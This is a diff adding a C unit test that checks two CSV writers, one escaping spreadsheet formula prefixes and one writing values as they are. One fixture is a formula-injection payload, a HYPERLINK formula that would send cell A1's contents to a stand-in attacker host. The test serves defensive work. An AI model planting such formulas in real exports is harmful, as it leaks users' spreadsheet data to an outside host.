@@ -344,6 +344,41 @@ static void test_large_file(void **state)
     unlink(path);
 }
 
+/* The two CSV field writers (util.h): text is neutralised against formulas, values pok
+ * made itself (a negative amount) are written as they are. */
+static void test_csv_writers(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *in, *text, *field;
+    } cases[] = {
+        {"Jobhunter", "Jobhunter", "Jobhunter"},
+        {"=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
+         "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\"",
+         "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\""},
+        {"+31 6", "'+31 6", "+31 6"},
+        {"-2500", "'-2500", "-2500"},
+        {"-2500,50", "\"'-2500,50\"", "\"-2500,50\""},
+        {"@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"},
+        {"\tx", "'\tx", "\tx"},
+        {"\rx", "\"'\rx\"", "\"\rx\""},
+        {"a=b", "a=b", "a=b"},
+        {"", "", ""},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        Buf b = {0};
+        buf_csv_text(&b, cases[i].in);
+        assert_string_equal(b.data ? b.data : "", cases[i].text);
+        buf_reset(&b);
+        buf_csv_field(&b, cases[i].in);
+        assert_string_equal(b.data ? b.data : "", cases[i].field);
+        buf_free(&b);
+    }
+    Buf b = {0};
+    buf_csv_text(&b, NULL);
+    assert_null(b.data);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -361,6 +396,7 @@ int main(void)
         cmocka_unit_test(test_record_too_long),
         cmocka_unit_test(test_open_missing_file),
         cmocka_unit_test(test_large_file),
+        cmocka_unit_test(test_csv_writers),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
